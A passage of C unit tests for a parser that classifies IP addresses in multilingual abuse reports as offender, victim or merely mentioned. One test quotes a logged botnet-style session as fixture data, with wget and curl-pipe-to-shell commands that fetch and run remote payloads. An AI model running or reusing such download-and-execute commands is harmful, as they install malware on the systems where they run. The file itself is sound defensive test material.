		    score_of(portsentry, "192.0.2.77"));
	assert_true(hints_of("Our gateway is 192.0.2.149 on your side.",
			     "192.0.2.149") &
		    HINT(IPSCAN_HINT_MENTIONED));
	assert_true(hints_of("Same attack from 198.51.100.199 but that is not "
			     "your network.",
			     "198.51.100.199") &
		    HINT(IPSCAN_HINT_MENTIONED));
	assert_true(hints_of("Taarifa zinatumwa kwa seva nyingine iliyo nje ya "
			     "mtandao wenu (203.0.113.140).",
			     "203.0.113.140") &
		    HINT(IPSCAN_HINT_MENTIONED));
	assert_true(hints_of("الموقع الرسمي لمنصتنا يعمل على العنوان "
			     "198.51.100.150.",
			     "198.51.100.150") &
		    HINT(IPSCAN_HINT_VICTIM));
	assert_true(hints_of("Die e-posse is gestuur vanaf 198.51.100.188 (nie "
			     "julle netwerk nie).",
			     "198.51.100.188") &
		    HINT(IPSCAN_HINT_MENTIONED));
	assert_true(hints_of("Troijalaisen komentopalvelin: 203.0.113.208:6606 "
			     "(ei teidän verkossanne)",
			     "203.0.113.208") &
		    HINT(IPSCAN_HINT_MENTIONED));
	assert_true(hints_of("受控主机示例：198.51.100.24、198.51.100.87"
			     "（均为受害主机，无需处理）",
			     "198.51.100.24") &
		    HINT(IPSCAN_HINT_VICTIM));
	assert_true(hints_of("Neko napada naš CS2 server (198.51.100.27:27015) "
			     "UDP flood-om.",
			     "198.51.100.27") &
		    (HINT(IPSCAN_HINT_VICTIM) | HINT(IPSCAN_HINT_MENTIONED)));
}

/* The host a logged download command fetches from is only named: the
 * attacker is the one that ran it. */
static void test_ipscan_download_command_host_is_mentioned(void **state)
{
	const char *log = "Session from 192.0.2.190 (login root/xc3511):\n"
			  "  cd /tmp; wget http://198.51.100.201/bins/mips; "
			  "chmod 777 mips\n";

	(void)state;
	assert_true(hints_of(log, "198.51.100.201") &
		    HINT(IPSCAN_HINT_MENTIONED));
	assert_true(score_of(log, "198.51.100.201") < IPSCAN_SELECT);
	assert_true(score_of("  tftp -g -r x 198.51.100.202\n",
			     "198.51.100.202") < IPSCAN_TRUST_BODY);
	assert_true(score_of("curl -fsSL http://198.51.100.203/d.sh | sh\n",
			     "198.51.100.203") < IPSCAN_TRUST_BODY);
}

/* A denial anywhere in the sentence of a sole address counts for it,
 * beyond the clause; in a sentence that names two, it stays with the
 * words right after the one it follows. */
static void test_ipscan_denial_in_the_sentence_of_a_sole_address(void **state)
{
	const char *login = "The last login, from 203.0.113.9, was made by the "
			    "account holder and is not in your network.";
	const char *semi = "The chain passes through an ad server at "
			   "198.51.100.9; that server is not in your network.";
	const char *two = "The attack came from 203.0.113.5 against our "
			  "partner 192.0.2.1, which is not in your network.";
	const char *ko = "DDoS 방어 서비스(203.0.113.250)를 이용하였으며, 해당 "
			 "주소는 공격과 무관합니다.";

	(void)state;
	assert_true(hints_of(login, "203.0.113.9") &
		    HINT(IPSCAN_HINT_MENTIONED));
	assert_true(hints_of(semi, "198.51.100.9") &
		    HINT(IPSCAN_HINT_MENTIONED));
	assert_false(hints_of(two, "203.0.113.5") &
		     HINT(IPSCAN_HINT_MENTIONED));
	assert_true(score_of(two, "203.0.113.5") >= IPSCAN_SELECT);
	assert_true(hints_of(ko, "203.0.113.250") &
		    HINT(IPSCAN_HINT_MENTIONED));
}

/* A French site "hébergé chez vous à l'adresse ADDR" is in the
 * recipient's network: enough to be selected. */
static void test_ipscan_french_hosted_with_you(void **state)
{
	(void)state;
	assert_true(score_of("Le lien mène vers un faux site qui est hébergé "
			     "chez vous à l'adresse 192.0.2.45.",
			     "192.0.2.45") >= IPSCAN_SELECT);
}

/* A denial after a list is about each of its addresses; one beyond the
 * right window (a long Cyrillic clause) still counts, once. */
static void test_ipscan_denial_after_a_list(void **state)
{
	const char *ru = "Остальные источники атаки (например, 192.0.2.33 и "
			 "192.0.2.34) находятся в сетях других операторов, им "
			 "направлены отдельные обращения.";
	const char *en = "Other sources (e.g. 192.0.2.35 and 192.0.2.36) are "
			 "in other networks and were reported there.";

	(void)state;
	assert_true(hints_of(ru, "192.0.2.33") & HINT(IPSCAN_HINT_MENTIONED));
	assert_true(hints_of(ru, "192.0.2.34") & HINT(IPSCAN_HINT_MENTIONED));
	assert_true(hints_of(en, "192.0.2.36") & HINT(IPSCAN_HINT_MENTIONED));
	assert_int_equal(
	    score_of(en, "192.0.2.36"),
	    score_of("Other sources (e.g. 192.0.2.36) are in other "
		     "networks and were reported there.",
		     "192.0.2.36"));
}

/* The reporter's own monitoring host is named only (zh, en). */
static void test_ipscan_reporters_monitoring_host(void **state)
{
	(void)state;
	assert_true(
	    hints_of("（最后一行为我司监控服务器 203.0.113.8 的正常访问。）",
		     "203.0.113.8") &
	    HINT(IPSCAN_HINT_MENTIONED));
	assert_true(
	    hints_of("Our monitoring probe 203.0.113.7 checks the site.",
		     "203.0.113.7") &
	    HINT(IPSCAN_HINT_MENTIONED));
}

/* Czech, Ukrainian and Turkish role words, each from its own file. */
static void test_ipscan_czech_ukrainian_turkish_roles(void **state)
{
	(void)state;
	assert_true(hints_of("Útoky z 203.0.113.4 na náš server 192.0.2.4.",
			     "192.0.2.4") &
		    HINT(IPSCAN_HINT_VICTIM));
	assert_true(
	    hints_of("Útočník 203.0.113.5 je ve vaší síti.", "203.0.113.5") &
	    HINT(IPSCAN_HINT_OFFENDER));
	assert_true(
	    hints_of("Наш справжній сайт має адресу 198.51.100.200 і до "
		     "цієї атаки стосунку не має.",
		     "198.51.100.200") &
	    (HINT(IPSCAN_HINT_MENTIONED) | HINT(IPSCAN_HINT_VICTIM)));
	assert_true(hints_of("Saldırgan 203.0.113.6 sunucumuz 192.0.2.6 "
			     "adresine saldırdı.",
			     "192.0.2.6") &
		    HINT(IPSCAN_HINT_VICTIM));
}

/* A cue that the wrap of a line cuts in two is read across the break;
 * words wholly on the line above are another clause's and do not count. */
static void test_ipscan_cue_cut_by_a_line_wrap(void **state)
{
	const char *cut = "I did not download any data beyond the listing. My\n"
			  "scanning host was 2001:db8:ffff:1::2, in case.\n";
	const char *whole = "the link goes to a fake parcel\n"
			    "tracking page at http://192.0.2.150/track.php\n";

	char far[1024];

	(void)state;
	assert_true(hints_of(cut, "2001:db8:ffff:1::2") &
		    HINT(IPSCAN_HINT_MENTIONED));
	/* Far into a text (the fuzzer's find: the copy was addressed from
	 * the text's start, past the end of its buffer). */
	snprintf(far, sizeof far, "%0600d\n%s", 0, cut);
	assert_true(hints_of(far, "2001:db8:ffff:1::2") &
		    HINT(IPSCAN_HINT_MENTIONED));
	assert_false(hints_of(whole, "192.0.2.150") & HINT(IPSCAN_HINT_VICTIM));
}

/* Hosted by another provider and reported there: named only. */
static void test_ipscan_hosted_elsewhere_is_mentioned(void **state)
{
	(void)state;
	assert_true(hints_of("The .hta file is hosted elsewhere (192.0.2.199, "
			     "different provider, reported there).",
			     "192.0.2.199") &
		    HINT(IPSCAN_HINT_MENTIONED));
	assert_true(hints_of("C2 : 192.0.2.158:7771 (hébergé chez un autre "
			     "opérateur, signalé séparément)",
			     "192.0.2.158") &
		    HINT(IPSCAN_HINT_MENTIONED));
	/* "hosted elsewhere" after the address, past its URL's path. */
	assert_true(hints_of("The loader fetches hxxp://192.0.2.244/gate.php, "
			     "which is hosted elsewhere.",
			     "192.0.2.244") &
		    HINT(IPSCAN_HINT_MENTIONED));
}

/* The reporter's own customer is the attacked side, in any language. */
static void test_ipscan_reporters_customer_is_the_victim(void **state)
{
	(void)state;
	assert_true(
	    hints_of("Our customer 192.0.2.5 was flooded.", "192.0.2.5") &
	    HINT(IPSCAN_HINT_VICTIM));
	assert_true(
	    hints_of("наш клиент 192.0.2.6 подвергся атаке", "192.0.2.6") &
	    HINT(IPSCAN_HINT_VICTIM));
	assert_true(
	    hints_of("Your customer 192.0.2.7 attacks us.", "192.0.2.7") &
	    HINT(IPSCAN_HINT_OFFENDER));
}

/* A customer writing about the machine it rents from us is its victim;
 * the address it names as the attacker is the offender. */
static void test_ipscan_renting_customer_is_the_victim(void **state)
{
	const char *t = "I rent the VPS 198.51.100.40 from you (contract 7). "
			"Since noon 203.0.113.9 is flooding it.";
	const char *u = "my server 192.0.2.44 hosted with you is down.";

	(void)state;
	assert_true(hints_of(t, "198.51.100.40") & HINT(IPSCAN_HINT_VICTIM));
	assert_true(score_of(t, "198.51.100.40") < 0);
	assert_true(hints_of(u, "192.0.2.44") & HINT(IPSCAN_HINT_VICTIM));
	/* "from your network" is no customer's word. */
	assert_true(score_of("Scans came from 192.0.2.3 from your network.",
			     "192.0.2.3") > 0);
}

/* A name "which resolve(s) to" an address is hosted there. */
static void test_ipscan_resolved_address_is_the_offender(void **state)
{
	const char *t = "The files are at these locations, which resolve to "
			"198.51.100.88:";

	(void)state;
	assert_true(hints_of(t, "198.51.100.88") & HINT(IPSCAN_HINT_OFFENDER));
	assert_true(score_of("The domains resolve to:\n  203.0.113.5\n",
			     "203.0.113.5") > 0);
}

/* The words of the reported mail are not the reporter's: no hints. */
static void test_ipscan_embedded_text_gives_no_hints(void **state)
{
	struct ip_cands c;
	const char *t = "our server 198.51.100.8 says hello";

	(void)state;
	ipscan_init(&c);
	ipscan_text(&c, t, strlen(t), IPSCAN_TRUST_EMBEDDED);
	assert_int_equal(c.n, 1);
	assert_int_equal(c.v[0].hints, HINT(IPSCAN_HINT_NONE));
	ipscan_free(&c);
}

/* Column names of a table say which address of a row is which: by the
 * count of delimiters, or by overlap when the columns are aligned. */
static void test_ipscan_table_columns_name_roles(void **state)
{
	const char *csv = "Source,Destination,Port\n"
			  "192.0.2.31,198.51.100.32,445\n"
			  "192.0.2.31,198.51.100.33,445\n";
	const char *aligned = "   Time   SourceIP  Src Port          DestIP\n"
			      "  12:00  192.0.2.41      5555   198.51.100.42\n";

	(void)state;
	assert_true(hints_of(csv, "192.0.2.31") & HINT(IPSCAN_HINT_OFFENDER));
	assert_true(hints_of(csv, "198.51.100.32") & HINT(IPSCAN_HINT_VICTIM));
	assert_true(hints_of(csv, "198.51.100.33") & HINT(IPSCAN_HINT_VICTIM));
	assert_true(score_of(csv, "192.0.2.31") >= IPSCAN_SELECT);
	assert_true(hints_of(aligned, "192.0.2.41") &
		    HINT(IPSCAN_HINT_OFFENDER));
	assert_true(hints_of(aligned, "198.51.100.42") &
		    HINT(IPSCAN_HINT_VICTIM));
	/* A fail2ban digest's column of the banned. */
	const char *banned = "jail          banned_ip          bans\n"
			     "sshd          2001:db8:77:3::a1     2\n";
	assert_true(score_of(banned, "2001:db8:77:3::a1") >= IPSCAN_SELECT);
	/* "blocked by" names the blocker, not the blocked. */
	const char *by = "blocked_by   blocked_ip\n"
			 "192.0.2.5    203.0.113.9\n";
	assert_false(hints_of(by, "192.0.2.5") & HINT(IPSCAN_HINT_OFFENDER));
	assert_true(hints_of(by, "203.0.113.9") & HINT(IPSCAN_HINT_OFFENDER));
}

/* Dutch "vanaf" (from) and "naar" (to) weigh as English "from" and
 * "to"; "jullie" is the informal "uw". */
static void test_ipscan_dutch_from_and_to(void **state)
{
	const char *t = "UDP floods naar ons server-ip 192.0.2.99, vanaf "
			"203.0.113.180 bij jullie.";

	(void)state;
	assert_true(hints_of(t, "192.0.2.99") & HINT(IPSCAN_HINT_VICTIM));
	assert_true(hints_of(t, "203.0.113.180") & HINT(IPSCAN_HINT_OFFENDER));
	assert_true(score_of("De aanvallen komen uit jullie netwerk: "
			     "203.0.113.181.",
			     "203.0.113.181") >= IPSCAN_SELECT);
}

/* A short heading that ends in a colon labels the rows below it across
 * one blank line, each row alike whatever its words ("Harvesting" or
 * "Comment Spamming"); a paragraph that ends in one does not. */
static void test_ipscan_heading_over_blank_line(void **state)
{
	const char *yours = "Other networks get this too. According to the "
			    "RIPE database these are yours:\n\n"
			    "  203.0.113.14    1,912 failed AUTH LOGIN\n"
			    "  203.0.113.15    1,877 failed AUTH LOGIN\n";
	const char *digest = "IPs Engaged In Harvesting On Your Network:\n\n"
			     "10.0.2.1\n10.0.2.2\n\n"
			     "IPs Engaged In Comment Spamming On Your "
			     "Network:\n\n10.0.2.4\n";
	const char *para = "The host received logins from 240 addresses. A "
			   "sample of them is listed below for reference only; "
			   "these are not in your network and no action is "
			   "expected regarding them:\n\n"
			   "  192.0.2.15\n  192.0.2.77\n";

	(void)state;
	assert_true(score_of(yours, "203.0.113.14") >= IPSCAN_SELECT);
	assert_true(score_of(yours, "203.0.113.15") >= IPSCAN_SELECT);
	assert_int_equal(score_of(digest, "10.0.2.1"),
			 score_of(digest, "10.0.2.4"));
	assert_int_equal(score_of(digest, "10.0.2.2"),
			 score_of(digest, "10.0.2.4"));
	assert_true(score_of(para, "192.0.2.15") < IPSCAN_SELECT);
	assert_true(score_of(para, "192.0.2.77") < IPSCAN_SELECT);
}

/* A column's name is read without its accents: "Zdroj | Cíl" (Czech),
 * "Źródło;Cel" (Polish), "Källa" (Swedish), "Dirección IP" (Spanish). */
static void test_ipscan_column_names_without_accents(void **state)
{
	const char *cs = "Čas   Zdroj          Cíl            Port\n"
			 "01:14 203.0.113.21   192.0.2.21     22\n";
	const char *pl = "Źródło;Cel;Port\n203.0.113.22;192.0.2.22;22\n";
	const char *sv = "Källa;Port\n203.0.113.23;22\n";
	const char *es = "Dirección IP;Puerto\n203.0.113.24;22\n";

	(void)state;
	assert_true(hints_of(cs, "203.0.113.21") & HINT(IPSCAN_HINT_OFFENDER));
	assert_true(hints_of(cs, "192.0.2.21") & HINT(IPSCAN_HINT_VICTIM));
	assert_true(hints_of(pl, "203.0.113.22") & HINT(IPSCAN_HINT_OFFENDER));
	assert_true(hints_of(pl, "192.0.2.22") & HINT(IPSCAN_HINT_VICTIM));
	assert_true(hints_of(sv, "203.0.113.23") & HINT(IPSCAN_HINT_OFFENDER));
	assert_true(score_of(es, "203.0.113.24") >= IPSCAN_SELECT);
}

/* The side may follow "IP" in a column's name as it may come first:
 * "ip_sorgente;ip_destinazione", "IP origen | IP destino". */
static void test_ipscan_column_side_after_ip(void **state)
{
	const char *csv = "ip_sorgente;ip_destinazione;porte\n"
			  "203.0.113.17;192.0.2.10;22\n";
	const char *bars = "IP origen | IP destino | eventos\n"
			   "203.0.113.18 | 192.0.2.11 | 40\n";

	(void)state;
	assert_true(hints_of(csv, "203.0.113.17") & HINT(IPSCAN_HINT_OFFENDER));
	assert_true(hints_of(csv, "192.0.2.10") & HINT(IPSCAN_HINT_VICTIM));
	assert_true(hints_of(bars, "203.0.113.18") &
		    HINT(IPSCAN_HINT_OFFENDER));
	assert_true(hints_of(bars, "192.0.2.11") & HINT(IPSCAN_HINT_VICTIM));
}

/* An address the reporter says it hosts is its own customer's: the
 * attacked side, in each language's words. */
static void test_ipscan_hosted_by_the_reporter_is_victim(void **state)
{
	static const char *const lines[] = {
	    "The shop 198.51.100.20 is hosted with us and was hit hard.",
	    "Notre client, dont le serveur 198.51.100.20 est hébergé chez "
	    "nous, a subi une attaque.",
	    "Der Server 198.51.100.20 wird bei uns gehostet.",
	    "El servidor 198.51.100.20 está alojado con nosotros.",
	    "Il server 198.51.100.20 è ospitato da noi.",
	    "O servidor 198.51.100.20 está hospedado conosco.",
	    "De server 198.51.100.20 wordt bij ons gehost.",
	};

	(void)state;
	each_hinted(lines, COUNT_OF(lines), "198.51.100.20",
		    IPSCAN_HINT_VICTIM);
}

/* The words after a list are about each of its addresses: the first
 * weighs no more than the last. */
static void test_ipscan_words_after_a_list(void **state)
{
	static const char *const lines[] = {
	    "The addresses 198.51.100.9 and 192.0.2.1 are displayed in public "
	    "DNS records.",
	    "Proxies 198.51.100.9, 198.51.100.10, and 192.0.2.1 are not in "
	    "your network.",
	};

	(void)state;
	for (size_t i = 0; i < COUNT_OF(lines); i++)
		assert_true(score_of(lines[i], "198.51.100.9") <=
			    score_of(lines[i], "192.0.2.1"));
}

/* An address said to have no part in it is named, not the offender:
 * "is not in your network", "has nothing to do with it", "無関係". */
static void test_ipscan_said_to_have_no_part_is_mentioned(void **state)
{
	static const char *const lines[] = {
	    "The ad server 198.51.100.9 is not in your network.",
	    "(my old server, 198.51.100.9 - that has nothing to do with it)",
	    "Der alte Server 198.51.100.9 hat damit nichts zu tun.",
	    "Le serveur 198.51.100.9 n'a rien à voir avec cette attaque.",
	    "正規サイト（198.51.100.9）は本件とは無関係です。",
	    "A few probes came from 198.51.100.9, which I believe falls "
	    "outside your /36.",
	    "sus servidores DNS (198.51.100.9) no se encuentran en su red.",
	    "egy másik szolgáltató hálózatából (198.51.100.9) küldték.",
	    "All domains use name servers at 198.51.100.9 and 192.0.2.1.",
	    "  Requested from:  198.51.100.9 (web form)",
	    "L'adresse IPv4 198.51.100.9, hébergée chez un autre "
	    "prestataire, que nous avons contacté séparément.",
	    "Onze webwinkel draait zelf bij een andere hostingpartij "
	    "(198.51.100.9).",
	    "Der Zugriff erfolgte von 198.51.100.9; diese Information "
	    "betrifft nicht Ihren Kunden.",
	    "Ha anche un indirizzo IPv4, 198.51.100.9, che appartiene a un "
	    "servizio di protezione/proxy e non al server vero e proprio.",
	    "Log masuk terakhir yang sah oleh mangsa adalah dari alamat IP "
	    "198.51.100.9.",
	    "The kit loads its images from 198.51.100.9, which is not one of "
	    "your addresses.",
	    "It loads its images from 198.51.100.9, so we have reported that "
	    "separately.",
	    "Examples of devices seen (these are not in your network): "
	    "198.51.100.9, 192.0.2.190.",
	    "Devices seen (for your reference only): 198.51.100.9.",
	    "Port scan detected: 22,23 (reported from 198.51.100.9)",
	    "Our test from 198.51.100.9 shows the IP is still listed.",
	    "Andre innlogginger skjedde fra 198.51.100.9, som tilhører en "
	    "VPN-tjeneste og inte berör er.",
	    "E-posten kom fra en annen server (198.51.100.9), så den er vel "
	    "ikke deres.",
	    "The lure pages are served from a separate CDN address "
	    "(198.51.100.9) which we are reporting to its provider.",
	    "Origen de la intrusión (no pertenece a su red): 198.51.100.9",
	    "Our verification crawler connects from 198.51.100.9.",
	    "Our scanner fetched the page from 198.51.100.9; it will keep "
	    "checking the URL.",
	    "The check ran from 198.51.100.9; please do not treat that "
	    "address as part of the attack.",
	    "Endereço IPv4 (CDN, não é o servidor de origem): 198.51.100.9",
	    "IPv4 address (CDN edge, not the origin server): 198.51.100.9",
	    "This message was sent from 198.51.100.9 by our notification "
	    "system.",
	    "A few came from 198.51.100.9 at some point, which is not in "
	    "your range.",
	    "Mailene kom i øvrigt fra 198.51.100.9, som ikke har noget med "
	    "jer at gøre.",
	    "Qurilma boshqaruv serveri 198.51.100.9 bilan aloqa o'rnatmoqda.",
	    "grazie, confermo che da 198.51.100.9 non arriva più nulla.",
	    "Van 198.51.100.9 komt niets meer, bedankt.",
	    "Soms ook van 198.51.100.9 (dat is een ander bedrijf, die heb ik "
	    "apart gemaild).",
	    "Die 198.51.100.9 (anderer Provider) ist auch dabei.",
	    "Póstarnir komu frá 198.51.100.9, sem er ekki í ykkar neti.",
	    "（198.51.100.9 はうちのプロバイダのメールサーバーらしいです）",
	};

	(void)state;
	each_hinted(lines, COUNT_OF(lines), "198.51.100.9",
		    IPSCAN_HINT_MENTIONED);
}

/* Said not to be the source, or outside the recipient's network, in the
 * words of each language that has them; the reporter's own scanner and
 * traffic ("in case you see traffic from us"), crawler, load balancer,
 * sinkhole and source of data; where a skimmer sends what it steals. */
static void test_ipscan_not_the_source_is_mentioned(void **state)
{
	static const char *const lines[] = {
	    "Our sensors 198.51.100.9 (not the source of the attack) saw it.",
	    "Exfiltration endpoint\thttps://198.51.100.9/gate.php",
	    "The stolen cards go to a drop zone at 198.51.100.9.",
	    "The logs also name the origin load balancer 198.51.100.9.",
	    "Our crawler runs from 198.51.100.9; it does not attack.",
	    "Our probes originate from 198.51.100.9 and 192.0.2.1.",
	    "Measurements originate from 198.51.100.9 and 192.0.2.1.",
	    "페이로드는 외부 서버(198.51.100.9)에서 스크립트를 내려받습니다.",
	    "Data source: 198.51.100.9 (NetFlow collector)",
	    "Źródło danych: NetFlow z routera brzegowego (198.51.100.9)",
	    "Our own site is hosted at 198.51.100.9 and is of course "
	    "unrelated.",
	    "Ghi nhận tại máy chủ sinkhole 198.51.100.9 (thuộc LVCERT).",
	    "Our own scanner runs from 198.51.100.9, in case you see it.",
	    "Probes from 198.51.100.9 are fine: that is traffic from us.",
	    "Der Server 198.51.100.9 ist nicht die Quelle der Angriffe.",
	    "L'adresse 198.51.100.9 n'est pas la source de l'attaque.",
	    "La dirección 198.51.100.9 no es el origen del ataque.",
	    "O endereço 198.51.100.9 não é a origem do ataque.",
	    "L'indirizzo 198.51.100.9 non è la sorgente dell'attacco.",
	    "Het adres 198.51.100.9 is niet de bron van de aanval.",
	    "Adres 198.51.100.9 nie jest źródłem ataku.",
	    "Адрес 198.51.100.9 не является источником атаки.",
	    "Adresa 198.51.100.9 není zdrojem útoku.",
	    "Koden hämtas från 198.51.100.9, som inte ligger i ert nät.",
	    "Sensor kami: 198.51.100.9 (bukan sumber serangan).",
	    "Địa chỉ 198.51.100.9 không phải là nguồn tấn công.",
	    "Adresa 198.51.100.9 nu este sursa atacului.",
	    "Osoite 198.51.100.9 ei ole verkossanne.",
	    "A 198.51.100.9 cím nem a forrás.",
	    "Credential drop\thxxp://198.51.100.9/gate/submit.php",
	    "Server di raccolta carte: 198.51.100.9 (non nella vostra rete)",
	    "Serveur de collecte : 198.51.100.9 (pas dans votre réseau)",
	    "Other sources are spoofed or on other networks: 198.51.100.9.",
	    "  scanner_ip:        198.51.100.9",
	    "La connexion d'origine (198.51.100.9) provient d'un fournisseur "
	    "étranger, sans rapport avec l'activité du client.",
	    "Our scanner sends its queries from 198.51.100.9 and "
	    "192.0.2.1.",
	    "Datenabfluss an: Telegram-Bot API (198.51.100.9)",
	    "We also saw probes from 198.51.100.9, but that address is not "
	    "part of your allocation.",
	    "※ 점검 발신 IP: 198.51.100.9 (KR-ISC 점검 서버, 공격 아님)",
	    "・情報の送信先(詐取先): 198.51.100.9 (他社ネットワーク)",
	    "観測元 : 198.51.100.9 (当プロジェクトの観測サーバ)",
	    "The IPv4 front (198.51.100.9) is a reverse proxy on another "
	    "network.",
	    "Image CDN: 198.51.100.9 (third party, notified separately)",
	    "  Probe source:  198.51.100.9",
	    "Sonda de origen: 198.51.100.9",
	};

	(void)state;
	for (size_t i = 0; i < sizeof lines / sizeof lines[0]; i++) {
		print_message("%s\n", lines[i]);
		assert_true(hints_of(lines[i], "198.51.100.9") &
			    HINT(IPSCAN_HINT_MENTIONED));
		assert_true(score_of(lines[i], "198.51.100.9") < IPSCAN_SELECT);
	}
}

/* The role words of the languages with a file of their own since:
 * Indonesian, Vietnamese, Romanian, Finnish and Hungarian name the
 * source and the attacked side. */
static void test_ipscan_role_words_of_more_languages(void **state)
{
	static const struct {
		const char *line, *offender, *victim;
	} rows[] = {
	    {"Serangan dari 203.0.113.5 ke server kami 192.0.2.5.",
	     "203.0.113.5", "192.0.2.5"},
	    {"Kẻ tấn công 203.0.113.5, máy chủ của chúng tôi 192.0.2.5.",
	     "203.0.113.5", "192.0.2.5"},
	    {"Atacator 203.0.113.5 împotriva serverul nostru 192.0.2.5.",
	     "203.0.113.5", "192.0.2.5"},
	    {"Hyökkääjä 203.0.113.5, kohde palvelimemme 192.0.2.5.",
	     "203.0.113.5", "192.0.2.5"},
	    {"Támadó 203.0.113.5, célpont: szerverünk 192.0.2.5.",
	     "203.0.113.5", "192.0.2.5"},
	};

	(void)state;
	for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++) {
		print_message("%s\n", rows[i].line);
		assert_true(hints_of(rows[i].line, rows[i].offender) &
			    HINT(IPSCAN_HINT_OFFENDER));
		assert_true(hints_of(rows[i].line, rows[i].victim) &
			    HINT(IPSCAN_HINT_VICTIM));
	}
}

/* A sentence that wraps onto the next line is read across the break for
 * a denial after its address ("not in\nyour network"), up to its end and
 * only while no other address stands in the way. */
static void test_ipscan_denial_across_a_line_wrap(void **state)
{
	const char *wrapped = "It downloaded a second stage from 198.51.100.9 "
			      "(a known malware server, not in\nyour network) "
			      "and ran it.\n";
	const char *ended = "It downloaded a second stage from 198.51.100.9.\n"
			    "The server is not in your network.\n";
	const char *other = "Logins came from 198.51.100.9 and from\n"
			    "192.0.2.7, which is not in your network.\n";

	(void)state;
	assert_true(hints_of(wrapped, "198.51.100.9") &
		    HINT(IPSCAN_HINT_MENTIONED));
	assert_false(hints_of(ended, "198.51.100.9") &
		     HINT(IPSCAN_HINT_MENTIONED));
	assert_false(hints_of(other, "198.51.100.9") &
		     HINT(IPSCAN_HINT_MENTIONED));
	/* A line longer than the look: nothing is read past it, and no
	 * byte is written past the look's buffer. */
	char long_line[600];
	int k = snprintf(long_line, sizeof long_line, "From 198.51.100.9 ");
	memset(long_line + k, 'x', 300);
	strcpy(long_line + k + 300, "\nnot in your network)\n");
	assert_false(hints_of(long_line, "198.51.100.9") &
		     HINT(IPSCAN_HINT_MENTIONED));
}

/* The role words of every file of data/roles/ count: cues and column
 * names of the other languages, a passive's auxiliary, a final "_" as
 * a space. */
static void test_ipscan_role_words_of_every_file(void **state)
{
	const char *csv = "origen;destino;puerto\n"
			  "192.0.2.61;198.51.100.62;22\n";

	(void)state;
	assert_true(hints_of("Attaquant : 192.0.2.60", "192.0.2.60") &
		    HINT(IPSCAN_HINT_OFFENDER));
	assert_true(hints_of(csv, "192.0.2.61") & HINT(IPSCAN_HINT_OFFENDER));
	assert_true(hints_of(csv, "198.51.100.62") & HINT(IPSCAN_HINT_VICTIM));
	assert_true(
	    hints_of("198.51.100.63 has been flooded by us", "198.51.100.63") &
	    HINT(IPSCAN_HINT_VICTIM));
	assert_true(
	    score_of("packets to 198.51.100.64", "198.51.100.64") <
	    score_of("packets tomorrow 198.51.100.64", "198.51.100.64"));
}

/* In each language of data/roles/, the reporter's own server is the
 * victim and the source of the attack the offender. */
static void test_ipscan_roles_in_other_languages(void **state)
{
	static const char *const texts[] = {
	    "Angriffe von 192.0.2.9 auf unserem Server 198.51.100.9.",
	    "Attaques depuis 192.0.2.9 sur nos serveurs 198.51.100.9.",
	    "Ataques desde 192.0.2.9 contra nuestros servidores 198.51.100.9.",
	    "Attacchi da 192.0.2.9 verso il nostro server 198.51.100.9.",
	    "Ataques de 192.0.2.9 contra o nosso servidor 198.51.100.9.",
	    "Aanvallen vanaf 192.0.2.9 op onze server 198.51.100.9.",
	    "Ataki z 192.0.2.9 na nasz serwer 198.51.100.9.",
	    "Атака с 192.0.2.9 на наш сервер 198.51.100.9.",
	    "Наш сервер 198.51.100.9, источник атаки 192.0.2.9.",
	    "攻撃元 192.0.2.9 から弊社サーバ 198.51.100.9 への攻撃。",
	    "攻击源 192.0.2.9 攻击了我方服务器 198.51.100.9。",
	    "We operate the mail service at 198.51.100.9; logins from "
	    "192.0.2.9 keep failing.",
	    "I run a few shops on a dedicated server (198.51.100.9). Since "
	    "today 192.0.2.9 is hammering them.",
	    "Gestisco alcuni siti su un server dedicato (198.51.100.9). Da "
	    "stamattina 192.0.2.9 li sta martellando.",
	    "Ich betreibe einen Webserver (198.51.100.9); 192.0.2.9 greift "
	    "ihn an.",
	    "Die Anfragen kommen von 192.0.2.9. Zur Einordnung: unser "
	    "Server ist 2001:db8:a0e:5::150 bzw. 198.51.100.9.",
	    "Náš VPS 198.51.100.9 je pod DDoS útokem z 192.0.2.9.",
	};

	(void)state;
	for (size_t i = 0; i < sizeof texts / sizeof texts[0]; i++) {
		print_message("%s\n", texts[i]);
		assert_true(hints_of(texts[i], "198.51.100.9") &
			    HINT(IPSCAN_HINT_VICTIM));
		assert_true(score_of(texts[i], "192.0.2.9") >
			    score_of(texts[i], "198.51.100.9"));
	}
}

/* An address in brackets after a thing the writer calls theirs is
 * theirs, in every language with "own" words, labelled or not ("(PBX
 * IP ...)", "(sent from ...)"); brackets that say it attacked, a thing
 * that is "yours", or an owner far from the bracket do not. */
static void test_ipscan_owned_apposition_is_the_victim(void **state)
{
	static const char *const owned[] = {
	    "Our EU game cluster (main node 198.51.100.9) was flooded "
	    "by 192.0.2.9.",
	    "il nostro negozio online (www.bottega.example, 198.51.100.9) "
	    "riceve attacchi da 192.0.2.9.",
	    "Seit gestern greift 192.0.2.9 meinen\nWebserver (198.51.100.9) "
	    "an.",
	    "Notre boutique (198.51.100.9) reçoit des attaques de "
	    "192.0.2.9.",
	    "Nasz sklep (198.51.100.9) jest atakowany z 192.0.2.9.",
	    "Наш магазин (198.51.100.9) атакуют с адреса 192.0.2.9.",
	    "当社のウェブサーバ（198.51.100.9）が"
	    "192.0.2.9から攻撃を受けました。",
	    "Log from our Asterisk box (PBX public IP 198.51.100.9), "
	    "scanned by 192.0.2.9.",
	    "Our probe (sent from 198.51.100.9) got an answer from "
	    "192.0.2.9.",
	    "Since Monday our front-desk server at 198.51.100.9 gets RDP "
	    "logins from 192.0.2.9.",
	    "Unser Mailserver ist 198.51.100.9, angegriffen von 192.0.2.9.",
	    "당사 게임 서버(198.51.100.9)를 대상으로 192.0.2.9에서 공격이 "
	    "발생하였습니다.",
	    /* A host name is one word, whatever its dots and hyphens. */
	    "Our real web shop www.my-garden-shop.example (198.51.100.9) is "
	    "not involved; the attacks come from 192.0.2.9.",
	    "なお、当社の正規サイトは www.sakura-bank.example"
	    "（198.51.100.9）であり、本件とは無関係です。",
	    /* A table row's key cell ends at a tab, as at a colon. */
	    "IP address\t192.0.2.9\nOur scanner\t198.51.100.9 (only "
	    "the index was read)\n",
	};
	static const char *const not_owned[] = {
	    "Our logs show that the attacker at 198.51.100.9 went on.",
	    "Your customer's server (198.51.100.9) attacks us.",
	    "Our shop (attacker 198.51.100.9 in your network) is down.",
	    "Our web shop was probed by many hosts for weeks (the one "
	    "in your network: 198.51.100.9).",
	    /* The owner is in the clause before the full stop. */
	    "当社で調査しました。攻撃元は www.bad.example"
	    "（198.51.100.9）です。",
	};

